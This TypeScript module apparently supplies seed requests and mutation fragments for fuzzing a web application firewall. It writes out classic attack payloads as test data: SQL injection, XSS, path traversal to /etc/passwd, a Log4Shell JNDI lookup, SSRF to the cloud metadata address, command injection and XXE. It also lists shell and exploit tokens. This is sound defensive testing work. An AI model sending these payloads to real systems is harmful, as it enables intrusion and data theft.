/**
 * Requests to start fuzzing the firewall from, and pieces to damage them with: one request for every way in which text
 * reaches a rule, and for every language that rules look for something short of an attack and something beyond it.
 */

import { type Label, type LabelledRequest, loadTraffic } from '../accuracy/traffic.ts';
import { buildRequest } from '../conformance/build-request.ts';
import { readRegressionSuite } from '../conformance/regression-suite.ts';
import { findShared } from '../support/shared-data.ts';

const FORM = 'application/x-www-form-urlencoded';

/** A request with a body of the length that it says. */
export function post(target: string, type: string, body: string, more = ''): string {
  return `POST ${target} HTTP/1.1\r\nHost: example.org\r\nContent-Type: ${type}\r\n${more}Content-Length: ${body.length}\r\n\r\n${body}`;
}

export function get(target: string, more = ''): string {
  return `GET ${target} HTTP/1.1\r\nHost: example.org\r\nUser-Agent: fuzzer/1.0\r\n${more}\r\n`;
}

function part(name: string, value: string): string {
  return `--edge\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
}

export const OWN_REQUESTS: readonly string[] = [
  get('/'),
  get('/shop/items?id=7&sort=price', 'Cookie: session=abc; theme=dark\r\nAccept: */*\r\n'),
  get('/item?id=7%27%20union%20all%20select%20password%20from%20users--%20'),
  get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 'Referer: http://example.org/?a=1&b=2\r\n'),
  get('/files?name=../../../etc/passwd%00.png'),
  get('/static/..%252f..%252fetc/passwd;jsessionid=1'),
  get('/ping', `X-Api-Version: \${jndi:ldap://host.example/x}\r\nX-Trust: yes\r\n`),
  get('/go?to=http://169.254.169.254/latest/meta-data/', 'Cookie: a="x y"; b=%7B%7B7*7%7D%7D\r\n'),
  post('/login', FORM, 'user=anna&password=p%26ssw0rd%21&remember=1'),
  post('/login', FORM, "user=admin'+or+'1'%3D'1&password=x", 'X-Plain: 1\r\n'),
  post('/run', FORM, 'host=127.0.0.1;cat%20/etc/passwd|sleep(5)'),
  post('/api', 'application/json', '{"a":{"b":[1,"two",null,{"c":"<img src=x onerror=alert(1)>"}]},"a":2}'),
  post('/api', 'application/json', '{"q":"\\u0027 union select 1","n":[[[[{"x":"../../etc/shadow"}]]]]}'),
  post('/xml', 'text/xml', '<?xml version="1.0"?><a b="c"><d>text &lt;script&gt;</d><![CDATA[x]]></a>'),
  post('/xml', 'application/xml', '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'),
  post(
    '/up',
    'multipart/form-data; boundary=edge',
    `${part('a', 'b')}${part('c', '<?php x();')}--edge--\r\n`,
  ),
  post('/up', 'multipart/form-data; boundary="edge"', `before\r\n${part('q', "1' or 1=1 -- ")}--edge`),
  post('/text', 'text/plain', 'plain words, a=b&c=d'),
  post('/text', `${FORM}; charset=utf-16le`, 'q\0=\0<\0s\0c\0r\0i\0p\0t\0>\0'),
];

/** Requests of the Core Rule Set's own tests, every so many of them; none where they are not at hand. */
export function suiteRequests(every: number): readonly string[] {
  const folder = findShared('data/crs/tests/regression/tests');
  if (folder === null) return [];
  return readRegressionSuite(folder)
    .filter((_, index) => index % every === 0)
    .flatMap(({ stages }) => stages.map(({ input }) => buildRequest(input).toString('latin1')))
    .filter((text) => text.length <= REQUEST_BYTES_MAX);
}

/** Rows of labelled traffic, every so many of them; none where they are not at hand. */
export function trafficRequests(label: Label, every: number): readonly string[] {
  const folder = findShared('data/traffic');
  if (folder === null) return [];
  return loadTraffic(folder, label)
    .filter((_, index) => index % every === 0)
    .map(toText)
    .filter((text) => text.length <= REQUEST_BYTES_MAX);
}

function toText({ method, target, headers, body }: LabelledRequest): string {
  const fields = body === '' ? headers : [...headers, ['content-length', `${body.length}`] as const];
  const lines = fields.map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${target} HTTP/1.1\r\n${lines.join('')}\r\n${body}`;
}

const REQUEST_BYTES_MAX = 20_000;

/** What means something in one of the languages that rules know, or in a format that parsers know. */
export const FRAGMENTS: readonly string[] = [
  ...[
    '%',
    '%25',
    '%00',
    '%u0027',
    '%c0%af',
    '\\u003c',
    '\\x3c',
    '&#x3c;',
    '&lt',
    '+',
    '\0',
    '\u00ff',
    '\u00c0\u00af',
  ],
  ...[
    "'",
    '"',
    '`',
    '<',
    '>',
    '(',
    ')',
    '{',
    '}',
    '[',
    ']',
    '$',
    ';',
    '|',
    '&',
    '=',
    '/',
    '\\',
    '#',
    '--',
    '/*',
    '*/',
  ],
  ...[' union ', ' select ', ' or ', '1=1', 'sleep(5)', "'||'", '/*!50000', 'char(65)', '@@version'],
  ...[
    '<script',
    '</script>',
    ' onerror=',
    'javascript:',
    '<img ',
    '<svg/',
    'style=',
    'data:text/html;base64,',
  ],
  ...['../', '..\\', '/etc/passwd', 'c:\\windows\\', '.htaccess', '/proc/self/', '%2e%2e%2f'],
  ...['$(', '${', 'cat ', '/bin/sh', 'wget ', '&&', `\${IFS}`, 'powershell ', '() { :;};'],
  ...['{{', '}}', '<%=', '#{', '${jndi:', `\${lower:j}`, 'java.lang.', 'system(', 'eval(', '<?php '],
  ...['"a":', ',', ':', 'null', '1e9', '<a>', '</a>', '<![CDATA[', ']]>', '<!ENTITY ', '<?xml '],
  ...[
    '--edge',
    '--edge--',
    '\r\n',
    '\n',
    '\r\n\r\n',
    'Content-Disposition: form-data; name="x"',
    'filename="y"',
  ],
];
